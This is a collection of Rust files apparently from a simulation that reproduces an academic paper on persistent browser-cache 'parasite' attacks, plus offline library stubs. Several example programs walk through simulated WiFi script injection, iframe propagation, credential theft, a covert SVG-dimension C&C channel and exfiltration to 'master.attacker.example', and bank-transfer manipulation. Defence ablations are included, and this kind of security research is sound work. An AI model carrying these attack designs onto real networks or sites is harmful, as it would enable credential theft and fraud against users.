                "seed byte {position} did not affect the stream"
            );
        }
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1_000 {
            let exclusive = rng.gen_range(10..20);
            assert!((10..20).contains(&exclusive));
            let inclusive: u64 = rng.gen_range(1..=100);
            assert!((1..=100).contains(&inclusive));
        }
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = StdRng::seed_from_u64(9);
        assert!(!rng.gen_bool(0.0));
        assert!(rng.gen_bool(1.0));
    }

    #[test]
    fn gen_bool_tracks_probability() {
        let mut rng = StdRng::seed_from_u64(11);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.3)).count();
        assert!((2_700..3_300).contains(&hits), "got {hits}");
    }
}
