//! Offline stub of `serde_derive`.
//!
//! The build environment has no access to crates.io, so this proc-macro crate
//! stands in for the real `serde_derive`. The derives accept the same surface
//! syntax (including `#[serde(...)]` helper attributes, which are ignored) and
//! emit structurally trivial impls of the stub `serde` traits:
//!
//! * `Serialize` serialises every value as a unit, and
//! * `Deserialize` always errors — nothing in this workspace deserialises at
//!   runtime; the impls exist so the shared type definitions keep their
//!   `#[derive(Serialize, Deserialize)]` annotations verbatim.
//!
//! The parser is deliberately tiny: it only needs the item's name and generic
//! parameters, not its fields.

use proc_macro::{Delimiter, TokenStream, TokenTree};

/// The parts of an item header the trivial impls need.
struct ItemHeader {
    /// Type name (`Foo` in `struct Foo<T> { .. }`).
    name: String,
    /// Raw generic parameter list including angle brackets (`<T: Clone>`),
    /// empty when the item is not generic.
    params: String,
    /// Generic arguments for the self type (`<T>`), empty when not generic.
    args: String,
}

/// Extracts the name and generics of the `struct`/`enum` a derive is attached
/// to, skipping attributes and visibility.
fn parse_header(input: TokenStream) -> ItemHeader {
    let mut tokens = input.into_iter().peekable();
    // Skip outer attributes (`#[...]`) and visibility (`pub`, `pub(...)`).
    let name = loop {
        match tokens.next() {
            Some(TokenTree::Punct(p)) if p.as_char() == '#' => {
                // Consume the bracket group of the attribute.
                tokens.next();
            }
            Some(TokenTree::Ident(word)) => {
                let word = word.to_string();
                if word == "pub" {
                    // Optional `(crate)` / `(super)` restriction.
                    if let Some(TokenTree::Group(g)) = tokens.peek() {
                        if g.delimiter() == Delimiter::Parenthesis {
                            tokens.next();
                        }
                    }
                } else if word == "struct" || word == "enum" || word == "union" {
                    match tokens.next() {
                        Some(TokenTree::Ident(name)) => break name.to_string(),
                        other => panic!("serde_derive stub: expected item name, got {other:?}"),
                    }
                }
                // Any other ident (e.g. nothing else is legal here) is skipped.
            }
            Some(_) => {}
            None => panic!("serde_derive stub: ran out of tokens before item name"),
        }
    };

    // Collect the generic parameter list, if any.
    let mut params = String::new();
    let mut args = String::new();
    if let Some(TokenTree::Punct(p)) = tokens.peek() {
        if p.as_char() == '<' {
            let mut depth = 0usize;
            let mut arg_names: Vec<String> = Vec::new();
            let mut expect_param = true;
            for token in tokens.by_ref() {
                let text = token.to_string();
                match &token {
                    TokenTree::Punct(p) if p.as_char() == '<' => depth += 1,
                    TokenTree::Punct(p) if p.as_char() == '>' => {
                        depth -= 1;
                        if depth == 0 {
                            params.push('>');
                            break;
                        }
                    }
                    TokenTree::Punct(p) if p.as_char() == ',' && depth == 1 => expect_param = true,
                    TokenTree::Punct(p) if p.as_char() == ':' && depth == 1 => expect_param = false,
                    TokenTree::Punct(p) if p.as_char() == '\'' && depth == 1 && expect_param => {
                        // A lifetime parameter: the tick plus the next ident.
                        arg_names.push(String::from("'"));
                    }
                    TokenTree::Ident(word) if depth == 1 && expect_param => {
                        match arg_names.last_mut() {
                            Some(last) if last == "'" => last.push_str(&word.to_string()),
                            _ => arg_names.push(word.to_string()),
                        }
                        expect_param = false;
                    }
                    _ => {}
                }
                // `expect_param` is re-armed by commas above; `const` params do
                // not occur on serde-derived types in this workspace.
                params.push_str(&text);
                // A lifetime's tick must stay glued to its ident (`'a`, never
                // `' a`); every other token can be safely space-separated.
                if !matches!(&token, TokenTree::Punct(p) if p.as_char() == '\'') {
                    params.push(' ');
                }
                if let TokenTree::Punct(p) = &token {
                    if p.as_char() == ',' && depth == 1 {
                        expect_param = true;
                    }
                }
            }
            if !arg_names.is_empty() {
                args = format!("<{}>", arg_names.join(", "));
            }
        }
    }

    ItemHeader { name, params, args }
}

/// Derives a no-op `serde::Serialize` impl (serialises as a unit).
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let header = parse_header(input);
    let ItemHeader { name, params, args } = &header;
    let impl_generics = if params.is_empty() {
        String::new()
    } else {
        params.clone()
    };
    format!(
        "#[automatically_derived]\n\
         impl{impl_generics} ::serde::Serialize for {name}{args} {{\n\
             fn serialize<S>(&self, serializer: S) -> ::core::result::Result<S::Ok, S::Error>\n\
             where S: ::serde::Serializer {{\n\
                 serializer.serialize_unit()\n\
             }}\n\
         }}"
    )
    .parse()
    .expect("serde_derive stub: generated Serialize impl must parse")
}

/// Derives a `serde::Deserialize` impl that always errors.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let header = parse_header(input);
    let ItemHeader { name, params, args } = &header;
    let impl_generics = if params.is_empty() {
        String::from("<'de>")
    } else {
        // Splice `'de` into the existing parameter list: `<T>` -> `<'de, T>`.
        let inner = params.trim_start_matches('<');
        format!("<'de, {inner}")
    };
    format!(
        "#[automatically_derived]\n\
         impl{impl_generics} ::serde::Deserialize<'de> for {name}{args} {{\n\
             fn deserialize<D>(_deserializer: D) -> ::core::result::Result<Self, D::Error>\n\
             where D: ::serde::Deserializer<'de> {{\n\
                 ::core::result::Result::Err(<D::Error as ::serde::de::Error>::custom(\n\
                     \"serde stub: runtime deserialization is not supported offline\"))\n\
             }}\n\
         }}"
    )
    .parse()
    .expect("serde_derive stub: generated Deserialize impl must parse")
}
