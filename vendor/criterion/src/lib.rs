//! Offline stub of `criterion`.
//!
//! Implements the subset of Criterion's API the bench suite uses —
//! `criterion_group!`/`criterion_main!`, `Criterion::benchmark_group`,
//! `BenchmarkGroup::{sample_size, bench_function, finish}`, `Bencher::iter`
//! and `black_box` — with a simple wall-clock measurement loop instead of the
//! real statistical machinery. Each benchmark is warmed up briefly, then timed
//! over `sample_size` batches; the mean, minimum and maximum per-iteration
//! times are printed in a Criterion-like one-line format:
//!
//! ```text
//! table1_eviction/table1_eviction
//!                         time:   [1.0234 ms 1.0491 ms 1.102 ms]  (10 samples)
//! ```

#![forbid(unsafe_code)]

use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// Top-level benchmark driver, handed to every `criterion_group!` target.
#[derive(Debug)]
pub struct Criterion {
    default_sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion {
            default_sample_size: 20,
        }
    }
}

impl Criterion {
    /// Parses Criterion-ish command-line arguments. The stub accepts and
    /// ignores everything (cargo bench passes `--bench`).
    pub fn configure_from_args(self) -> Self {
        self
    }

    /// Starts a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let sample_size = self.default_sample_size;
        BenchmarkGroup {
            _criterion: self,
            name: name.into(),
            sample_size,
        }
    }

    /// Registers a stand-alone benchmark outside any group.
    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let sample_size = self.default_sample_size;
        run_benchmark(id, sample_size, f);
        self
    }
}

/// A named group of benchmarks sharing configuration.
pub struct BenchmarkGroup<'a> {
    _criterion: &'a mut Criterion,
    name: String,
    sample_size: usize,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed samples collected per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        assert!(n > 0, "sample size must be positive");
        self.sample_size = n;
        self
    }

    /// Runs one benchmark within the group.
    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full_id = format!("{}/{}", self.name, id);
        run_benchmark(&full_id, self.sample_size, f);
        self
    }

    /// Finishes the group. (The stub keeps no cross-group state.)
    pub fn finish(self) {}
}

/// Timing loop handle passed to each benchmark closure.
#[derive(Debug, Default)]
pub struct Bencher {
    samples: Vec<Duration>,
    iters_per_sample: u64,
}

impl Bencher {
    /// Times `routine`, recording one sample of `iters_per_sample` calls.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut routine: F) {
        let start = Instant::now();
        for _ in 0..self.iters_per_sample {
            black_box(routine());
        }
        self.samples.push(start.elapsed());
    }
}

/// Picks an iteration count that keeps each sample around 2ms, then collects
/// `sample_size` samples and prints a summary line.
fn run_benchmark<F>(id: &str, sample_size: usize, mut f: F)
where
    F: FnMut(&mut Bencher),
{
    // Calibration pass: one iteration, to estimate per-call cost.
    let mut bencher = Bencher {
        samples: Vec::new(),
        iters_per_sample: 1,
    };
    f(&mut bencher);
    let per_call = bencher
        .samples
        .first()
        .copied()
        .unwrap_or(Duration::from_micros(1))
        .max(Duration::from_nanos(1));
    let target = Duration::from_millis(2);
    let iters = (target.as_nanos() / per_call.as_nanos()).clamp(1, 10_000) as u64;

    let mut bencher = Bencher {
        samples: Vec::with_capacity(sample_size),
        iters_per_sample: iters,
    };
    for _ in 0..sample_size {
        f(&mut bencher);
    }

    let per_iter: Vec<f64> = bencher
        .samples
        .iter()
        .map(|sample| sample.as_secs_f64() / iters as f64)
        .collect();
    let min = per_iter.iter().copied().fold(f64::INFINITY, f64::min);
    let max = per_iter.iter().copied().fold(0.0f64, f64::max);
    let mean = per_iter.iter().sum::<f64>() / per_iter.len().max(1) as f64;
    println!(
        "{id}\n                        time:   [{} {} {}]  ({} samples, {iters} iters/sample)",
        format_seconds(min),
        format_seconds(mean),
        format_seconds(max),
        per_iter.len(),
    );
}

/// Formats a duration in seconds with Criterion-style units.
fn format_seconds(seconds: f64) -> String {
    if seconds >= 1.0 {
        format!("{seconds:.4} s")
    } else if seconds >= 1e-3 {
        format!("{:.4} ms", seconds * 1e3)
    } else if seconds >= 1e-6 {
        format!("{:.4} µs", seconds * 1e6)
    } else {
        format!("{:.4} ns", seconds * 1e9)
    }
}

/// Declares a benchmark group function, mirroring `criterion::criterion_group!`.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares the bench entry point, mirroring `criterion::criterion_main!`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_and_reports() {
        let mut criterion = Criterion::default();
        let mut group = criterion.benchmark_group("stub");
        let mut calls = 0u64;
        group.sample_size(5).bench_function("count", |b| {
            b.iter(|| {
                calls += 1;
                calls
            })
        });
        group.finish();
        assert!(calls > 0);
    }

    #[test]
    fn units_format() {
        assert!(format_seconds(2.5).ends_with(" s"));
        assert!(format_seconds(2.5e-3).ends_with(" ms"));
        assert!(format_seconds(2.5e-6).ends_with(" µs"));
        assert!(format_seconds(2.5e-9).ends_with(" ns"));
    }
}
