//! Evaluates the countermeasures of §VIII: which stages of the attack
//! pipeline survive each defence, plus a concrete demonstration that the
//! out-of-band transaction confirmation stops the 2FA bypass.
//!
//! Run with: `cargo run --example defense_ablation`

use master_parasite::parasite::attacks;
use master_parasite::parasite::experiments::{ExperimentId, Registry, RunConfig};

fn main() {
    let ablation = Registry::get(ExperimentId::Ablation).run(&RunConfig::default());
    println!("{}", ablation.render_text());

    println!("concrete check: transaction manipulation with and without out-of-band confirmation\n");
    for (label, out_of_band) in [("without confirmation", false), ("with confirmation", true)] {
        let mut bank = if out_of_band {
            mp_apps::banking::BankingApp::new("bank.example").with_out_of_band_confirmation()
        } else {
            mp_apps::banking::BankingApp::new("bank.example")
        };
        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").expect("form field").id;
        let pass = dom.by_name("password").expect("form field").id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "correct-horse");
        let session = bank.login(&dom.submit_form(form).expect("form")).expect("valid credentials");
        let report = attacks::manipulate_bank_transfer(
            &mut bank,
            &session,
            "FR76 3000 6000 0112 3456 7890 189",
            "GB29 ATTACKER 0000 0000 0000 00",
            "480.00",
        );
        println!(
            "  {label:<22}: manipulated transfer executed = {} ({} transfers on the books)",
            report.succeeded,
            bank.executed_transfers().len()
        );
    }
}
