//! Reproduces the paper's measurement studies: the 100-day object-persistency
//! crawl (Figure 3) and the security-policy scan (Figure 5 plus the in-text
//! HTTPS / HSTS / Google-Analytics numbers).
//!
//! Run with: `cargo run -p parasite --example persistency_study --release`

use parasite::experiments::{fig3_persistency, fig5_csp_stats};

fn main() {
    println!("generating a 15K-site population and crawling it for 100 days...\n");
    let fig3 = fig3_persistency(15_000, 100, 2021);
    println!("{}", fig3.render());
    if let (Some(day5), Some(day100)) = (fig3.series.at(5), fig3.series.at(100)) {
        println!(
            "paper:    87.5 %% name-persistent at 5 days, 75.3 %% at 100 days");
        println!(
            "measured: {:.1} %% name-persistent at 5 days, {:.1} %% at 100 days\n",
            day5.name_persistent, day100.name_persistent
        );
    }

    println!("scanning the same population for TLS / HSTS / CSP deployment...\n");
    let fig5 = fig5_csp_stats(15_000, 2021);
    println!("{}", fig5.render());
}
