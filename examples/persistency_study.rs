//! Reproduces the paper's measurement studies: the 100-day object-persistency
//! crawl (Figure 3) and the security-policy scan (Figure 5 plus the in-text
//! HTTPS / HSTS / Google-Analytics numbers) — both through the experiment
//! registry, run in parallel on the batch engine.
//!
//! Run with: `cargo run --example persistency_study --release`

use master_parasite::parasite::experiments::{run_many, ExperimentId, RunConfig};

fn main() {
    println!("generating a 15K-site population and crawling it for 100 days...\n");
    let config = RunConfig {
        sites: 15_000,
        crawl_sites: 15_000,
        days: 100,
        seed: 2021,
        ..RunConfig::default()
    };
    // Both studies are independent: let the batch engine overlap them.
    let artifacts = run_many(&[ExperimentId::Fig3, ExperimentId::Fig5], &[config], 2);

    let fig3 = artifacts[0].data.as_fig3().expect("first artifact is Figure 3");
    println!("{}", artifacts[0].render_text());
    if let (Some(day5), Some(day100)) = (fig3.series.at(5), fig3.series.at(100)) {
        println!("paper:    87.5 %% name-persistent at 5 days, 75.3 %% at 100 days");
        println!(
            "measured: {:.1} %% name-persistent at 5 days, {:.1} %% at 100 days\n",
            day5.name_persistent, day100.name_persistent
        );
    }

    println!("scanning the same population for TLS / HSTS / CSP deployment...\n");
    println!("{}", artifacts[1].render_text());
}
