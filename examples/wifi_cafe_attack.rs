//! The paper's demo scenario: a visit to a well-known site on an insecure
//! café WiFi leads to the infection of online banking and web mail — sites
//! the victim never opened during the attack — followed by credential theft
//! and a manipulated transfer once the victim is back home.
//!
//! Run with: `cargo run --example wifi_cafe_attack`

use master_parasite::browser::dom::Dom;
use master_parasite::httpsim::url::Url;
use master_parasite::parasite::{attacks, propagation};
use master_parasite::ScenarioBuilder;

fn main() {
    // Café WiFi: the master infects everything it can see. The bank and mail
    // sites use HTTPS, but their deployments are vulnerable (legacy SSL), so
    // the on-path attacker can inject into them too — which is what makes the
    // propagation phase of the demo work.
    let mut scenario = ScenarioBuilder::new()
        .page(
            "news.example",
            "/",
            r#"<html><head><script src="/app.js"></script></head><body>headlines</body></html>"#,
            "no-cache",
        )
        .script("news.example", "/app.js", "function news(){}", "public, max-age=86400")
        .app("bank.example", || Box::new(mp_apps::banking::BankingApp::default()))
        .app("mail.example", || Box::new(mp_apps::webmail::WebMailApp::default()))
        .master("master.attacker.example")
        .target("http://news.example/app.js")
        .infect_all()
        .weak_tls("bank.example")
        .weak_tls("mail.example")
        .build();
    let infector = scenario.infector().expect("scenario has a master");

    println!("== phase 1: victim reads the news in the café ==");
    let news = Url::parse("http://news.example/").expect("static url");
    let load = scenario.browser.visit(&news);
    println!(
        "  parasite running on news.example: {}",
        load.page.scripts.iter().any(|s| infector.is_infected(&s.body))
    );

    println!("\n== phase 2: the parasite iframes banking and web mail ==");
    let mut dom = Dom::new(news.clone());
    let targets = vec![
        Url::parse("https://bank.example/login").expect("static url"),
        Url::parse("https://mail.example/login").expect("static url"),
    ];
    let report = propagation::propagate_via_iframes(&mut scenario.browser, &mut dom, &targets, &infector);
    println!("  domains now carrying parasites: {:?}", report.infected_domains);
    println!("  domains that stayed clean:      {:?}", report.clean_domains);

    println!("\n== phase 3: back home, the victim logs into the bank ==");
    let mut bank = mp_apps::banking::BankingApp::default();
    let (mut login_dom, form) = bank.login_dom();
    let user = login_dom.by_name("username").expect("form field").id;
    let pass = login_dom.by_name("password").expect("form field").id;
    login_dom.set_attr(user, "value", "alice");
    login_dom.set_attr(pass, "value", "correct-horse");
    let submission = login_dom.submit_form(form).expect("form exists");
    let session = bank.login(&submission).expect("credentials valid");

    let mut cnc = scenario.cnc().expect("scenario has a master");
    let theft = attacks::steal_login_data(&login_dom, &mut cnc, "campaign-0");
    println!("  credential theft succeeded: {} ({:?})", theft.succeeded, theft.evidence);

    println!("\n== phase 4: the parasite manipulates a transfer behind the OTP ==");
    let manipulation = attacks::manipulate_bank_transfer(
        &mut bank,
        &session,
        "FR76 3000 6000 0112 3456 7890 189",
        "GB29 ATTACKER 0000 0000 0000 00",
        "480.00",
    );
    println!("  manipulation succeeded: {}", manipulation.succeeded);
    for transfer in bank.executed_transfers() {
        println!(
            "  bank executed: {}.{:02} EUR -> {}",
            transfer.amount_cents / 100,
            transfer.amount_cents % 100,
            transfer.beneficiary_iban
        );
    }

    println!("\n== the same bank with out-of-band confirmation enabled ==");
    let mut defended = mp_apps::banking::BankingApp::new("bank.example").with_out_of_band_confirmation();
    let (mut dom2, form2) = defended.login_dom();
    let user = dom2.by_name("username").expect("form field").id;
    let pass = dom2.by_name("password").expect("form field").id;
    dom2.set_attr(user, "value", "alice");
    dom2.set_attr(pass, "value", "correct-horse");
    let session2 = defended.login(&dom2.submit_form(form2).expect("form")).expect("valid");
    let blocked = attacks::manipulate_bank_transfer(
        &mut defended,
        &session2,
        "FR76 3000 6000 0112 3456 7890 189",
        "GB29 ATTACKER 0000 0000 0000 00",
        "480.00",
    );
    println!("  manipulation succeeded: {} (expected: false)", blocked.succeeded);
}
