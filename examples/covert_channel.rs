//! Demonstrates the C&C covert channel of §VI-C: commands travel from the
//! master to the parasite encoded in the width/height of cross-origin SVG
//! images; stolen data travels back encoded in request URLs.
//!
//! Run with: `cargo run --example covert_channel`

use master_parasite::parasite::cnc::{
    decode_dimensions, downstream_goodput_bytes_per_sec, encode_upstream, parse_svg_dimensions,
    Command, ImageDimensions,
};
use master_parasite::ScenarioBuilder;

fn main() {
    // The scenario only needs the master side here: its C&C server.
    let scenario = ScenarioBuilder::new().master("master.attacker.example").build();
    let mut server = scenario.cnc().expect("scenario has a master");

    // The master queues a command for its bots.
    server.queue_command(Command::PropagateTo("https://bank.example/".into()));
    let images = server.serve_next_command();
    println!("command encoded into {} SVG images:", images.len());
    for (index, response) in images.iter().enumerate() {
        println!("  image {index}: {} ({} bytes on the wire)", response.body.as_text(), response.body.len());
    }

    // The parasite only sees the images' dimensions (SOP hides everything
    // else about a cross-origin image) — and that is enough.
    let dims: Vec<ImageDimensions> = images
        .iter()
        .map(|r| parse_svg_dimensions(&r.body.as_text()).expect("channel images carry dimensions"))
        .collect();
    let command = Command::from_bytes(&decode_dimensions(&dims).expect("complete sequence")).expect("valid command");
    println!("\nparasite decoded: {command:?}");

    // Upstream: the parasite exfiltrates harvested credentials in an image URL.
    let stolen = b"site=bank.example&user=alice&pass=correct-horse&otp=831245";
    let url = encode_upstream("master.attacker.example", "campaign-0", stolen);
    println!("\nexfiltration request the page issues: {url}");
    server.receive_upstream(&url);
    println!(
        "master received {} bytes: {}",
        server.exfiltrated()[0].data.len(),
        String::from_utf8_lossy(&server.exfiltrated()[0].data)
    );

    println!("\ndownstream goodput model (4 bytes per ~100-byte SVG):");
    for parallel in [1u32, 5, 10, 25, 50] {
        println!(
            "  {parallel:>2} parallel requests @ 1 ms RTT -> {:>7.1} KB/s",
            downstream_goodput_bytes_per_sec(parallel, 1.0) / 1000.0
        );
    }
}
