//! Mapping the attack surface: where does the parasite actually win?
//!
//! The paper demonstrates the injection race at one operating point (a
//! 300 µs master on a 40 ms WAN). The `attack_surface` experiment sweeps the
//! surrounding space — master reaction latency, WiFi jitter and the share of
//! victims deploying each §VIII countermeasure — and reports race-success
//! and steady-state-infection curves with Wilson 95% intervals, ready to
//! plot. The headline falls out of the grid: HSTS preloading starves the
//! attack as adoption grows, while a strict CSP never does.
//!
//! Run with: `cargo run --release --example attack_surface`

use master_parasite::parasite::experiments::{ExperimentId, Registry, RunConfig};
use master_parasite::parasite::json::ToJson;

fn main() {
    // A finer grid than the defaults, with a jitter axis: 4 vectors x
    // 6 delays x 2 jitters, 100 seeded race trials per cell.
    let config = RunConfig {
        surface_trials: 100,
        surface_delay_start_us: 300,
        surface_delay_end_us: 160_000,
        surface_delay_steps: 6,
        surface_adoption_steps: 5,
        jitter_us: 400,
        ..RunConfig::default()
    };
    let artifact = Registry::get(ExperimentId::AttackSurface)
        .try_run(&config)
        .expect("the sweep stays within its event budget");
    println!("{}", artifact.render_text());

    // The same grid as machine-readable series (what `paper-report
    // --only attack_surface --json` emits per artifact).
    let result = artifact.data.as_attack_surface().expect("surface artifact");
    let csp = result
        .vectors
        .iter()
        .find(|v| v.vector == "race_vs_csp")
        .expect("CSP vector swept");
    println!(
        "plot-ready JSON for one curve: {}",
        csp.infection_vs_adoption.to_json()
    );
}
