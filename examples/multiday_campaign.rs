//! A multi-day persistent campaign with churn, heterogeneity and a
//! checkpoint.
//!
//! The paper's core claim is *persistence*: the parasite survives across
//! browsing sessions and days (Figure 3). This example runs the campaign
//! fleet longitudinally — every day a share of each café's clients departs
//! and is replaced by fresh arrivals, a few infected residents clear their
//! caches, and the target object may be renamed by its site (which breaks
//! every parasite riding on it) — and shows the checkpoint/resume path a
//! long campaign would use.
//!
//! Run with: `cargo run --release --example multiday_campaign`

use master_parasite::parasite::experiments::{
    run_campaign_with_checkpoint, ExperimentId, Registry, RunConfig,
};

fn main() {
    let config = RunConfig {
        fleet_clients: 20_000,
        fleet_aps: 32,
        fleet_days: 10,
        fleet_churn: 0.15,
        fleet_hetero: true,
        ..RunConfig::default()
    };

    println!("== ten-day churn campaign over 32 heterogeneous cafe APs ==");
    let artifact = Registry::get(ExperimentId::CampaignFleet)
        .try_run(&config)
        .expect("the campaign stays within its event budgets");
    println!("{}", artifact.render_text());

    // The same campaign, checkpointed after every day: killing the process
    // mid-campaign and rerunning resumes from the last completed day and
    // produces a byte-identical artifact.
    let checkpoint = std::env::temp_dir().join("mp_multiday_campaign.ckpt.json");
    let _ = std::fs::remove_file(&checkpoint);
    let first = run_campaign_with_checkpoint(&config, &checkpoint)
        .expect("checkpointed run completes");
    let resumed = run_campaign_with_checkpoint(&config, &checkpoint)
        .expect("resume from the finished checkpoint");
    assert_eq!(first, resumed, "resume is byte-identical");
    println!(
        "== checkpoint at {} resumes byte-identically ({} of {} clients infected) ==",
        checkpoint.display(),
        resumed.infected_clients,
        resumed.clients
    );
    let _ = std::fs::remove_file(&checkpoint);
}
