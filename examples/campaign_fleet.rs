//! A campaign at population scale, at both levels of the stack.
//!
//! First a browser-level fleet sweep through one café scenario (every client
//! is a fresh victim browser on the hostile path), then the packet-level
//! `campaign_fleet` experiment: thousands of clients spread over independent
//! shared-WiFi access points, each AP simulated packet by packet with a
//! memory-bounded `SummaryOnly` trace.
//!
//! Run with: `cargo run --release --example campaign_fleet`

use master_parasite::httpsim::url::Url;
use master_parasite::parasite::experiments::{ExperimentId, Registry, RunConfig};
use master_parasite::ScenarioBuilder;

fn main() {
    println!("== browser-level fleet: one cafe, many victims ==");
    let scenario = ScenarioBuilder::new()
        .page(
            "news.example",
            "/",
            r#"<html><head><script src="/app.js"></script></head><body>headlines</body></html>"#,
            "no-cache",
        )
        .script("news.example", "/app.js", "function news(){}", "public, max-age=86400")
        .master("master.attacker.example")
        .target("http://news.example/app.js")
        .build();
    let page = Url::parse("http://news.example/").expect("static url");
    let report = scenario.fleet_sweep(&page, 200);
    println!(
        "  {} clients visited the news site; {} infected, {} clean",
        report.clients, report.infected, report.clean
    );

    println!("\n== packet-level fleet: many cafes, simulated per packet ==");
    let config = RunConfig {
        fleet_clients: 10_000,
        fleet_aps: 32,
        jitter_us: 200,
        ..RunConfig::default()
    };
    let artifact = Registry::get(ExperimentId::CampaignFleet)
        .try_run(&config)
        .expect("the fleet stays within its event budget");
    println!("{}", artifact.render_text());
}
