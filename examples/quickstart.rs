//! Quickstart: one infection, end to end.
//!
//! A victim on a public WiFi re-fetches a popular site's persistent script;
//! the master races the response, the parasite lands in the cache, survives
//! the move to a clean network, and phones home.
//!
//! Run with: `cargo run -p parasite --example quickstart`

use mp_browser::browser::Browser;
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::transport::{Internet, StaticOrigin};
use mp_httpsim::url::Url;
use parasite::master::Master;
use parasite::script::Parasite;

fn the_internet() -> Internet {
    let mut site = StaticOrigin::new("somesite.com");
    site.put_text(
        "/index.html",
        ResourceKind::Html,
        r#"<html><head><script src="/my.js"></script></head><body>news of the day</body></html>"#,
        "no-cache",
    );
    site.put_text(
        "/my.js",
        ResourceKind::JavaScript,
        "function genuine(){ /* the site's real code */ }",
        "public, max-age=604800",
    );
    let mut net = Internet::new();
    net.register_origin(site);
    net
}

fn main() {
    // The master prepares its campaign: target object + parasite template.
    let mut master = Master::new("master.attacker.example");
    let target = Url::parse("http://somesite.com/my.js").expect("static url");
    master.add_target(target.clone());
    let infector = master.infector();

    // The victim joins the attacker's WiFi: every fetch crosses the master.
    let hostile_path = master.injecting_exchange(the_internet());
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(hostile_path));

    println!("== victim browses somesite.com on the hostile network ==");
    let page = Url::parse("http://somesite.com/index.html").expect("static url");
    let load = browser.visit(&page);
    for record in &load.records {
        println!("  fetched {} ({:?})", record.url, record.source);
    }
    let infected = load.page.scripts.iter().any(|s| infector.is_infected(&s.body));
    println!("  parasite executing: {infected}");

    // The victim goes home. The site is reachable through a clean path now,
    // but the cached copy is the infected one.
    browser.change_network(Box::new(the_internet()));
    browser.advance_time(24 * 3600);
    println!("\n== next day, on the home network ==");
    let load = browser.visit(&page);
    for script in &load.page.scripts {
        if let Some(parasite) = Parasite::detect(&script.body) {
            println!(
                "  parasite still runs from cache: campaign={} modules={:?} (served from cache: {})",
                parasite.campaign,
                parasite.modules.iter().map(|m| m.tag()).collect::<Vec<_>>(),
                script.from_cache
            );
        }
    }
    println!("\ninjection stats recorded by the master are available via the experiment harness;");
    println!("run `cargo run -p mp-bench --bin paper-report` for the full paper reproduction.");
}
