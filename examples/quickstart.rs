//! Quickstart: one infection, end to end.
//!
//! A victim on a public WiFi re-fetches a popular site's persistent script;
//! the master races the response, the parasite lands in the cache, survives
//! the move to a clean network, and phones home.
//!
//! Run with: `cargo run --example quickstart`

use master_parasite::httpsim::url::Url;
use master_parasite::parasite::script::Parasite;
use master_parasite::ScenarioBuilder;

fn main() {
    // The whole world — the site, the master's campaign and the victim's
    // browser joining the attacker's WiFi — in one builder chain.
    let mut scenario = ScenarioBuilder::new()
        .page(
            "somesite.com",
            "/index.html",
            r#"<html><head><script src="/my.js"></script></head><body>news of the day</body></html>"#,
            "no-cache",
        )
        .script(
            "somesite.com",
            "/my.js",
            "function genuine(){ /* the site's real code */ }",
            "public, max-age=604800",
        )
        .master("master.attacker.example")
        .target("http://somesite.com/my.js")
        .build();
    let infector = scenario.infector().expect("scenario has a master");

    println!("== victim browses somesite.com on the hostile network ==");
    let page = Url::parse("http://somesite.com/index.html").expect("static url");
    let load = scenario.browser.visit(&page);
    for record in &load.records {
        println!("  fetched {} ({:?})", record.url, record.source);
    }
    let infected = load.page.scripts.iter().any(|s| infector.is_infected(&s.body));
    println!("  parasite executing: {infected}");

    // The victim goes home. The site is reachable through a clean path now,
    // but the cached copy is the infected one.
    scenario.go_home();
    scenario.browser.advance_time(24 * 3600);
    println!("\n== next day, on the home network ==");
    let load = scenario.browser.visit(&page);
    for script in &load.page.scripts {
        if let Some(parasite) = Parasite::detect(&script.body) {
            println!(
                "  parasite still runs from cache: campaign={} modules={:?} (served from cache: {})",
                parasite.campaign,
                parasite.modules.iter().map(|m| m.tag()).collect::<Vec<_>>(),
                script.from_cache
            );
        }
    }
    println!("\ninjection stats recorded by the master are available via the experiment harness;");
    println!("run `cargo run -p mp-bench --bin paper-report` for the full paper reproduction.");
}
