//! Ablation of the injection race (DESIGN.md: "first-segment-wins"): the
//! attack works exactly while the attacker's spoofed response reaches the
//! victim before the genuine server's response, and degrades gracefully to a
//! clean page load when it does not.

use parasite::experiments::injection_race_with_timing;

#[test]
fn fast_local_attacker_beats_a_distant_server() {
    // 0.3 ms reaction vs a 40 ms one-way WAN: the paper's WiFi scenario.
    assert!(injection_race_with_timing(300, 40_000));
    // Even a sluggish attacker wins against a typical Internet path.
    assert!(injection_race_with_timing(10_000, 40_000));
}

#[test]
fn attacker_loses_once_the_genuine_response_arrives_first() {
    // The genuine response needs ~2 * wan + processing; an attacker that
    // reacts far slower than that delivers its spoof too late and the victim
    // keeps the genuine script.
    assert!(!injection_race_with_timing(2_000_000, 5_000));
}

#[test]
fn crossover_is_monotone_in_attacker_reaction_time() {
    // Sweep the reaction time for a fixed 10 ms one-way server path; once the
    // attacker starts losing it never wins again at slower reactions.
    let server_one_way = 10_000;
    let mut last_won = true;
    let mut crossover_seen = false;
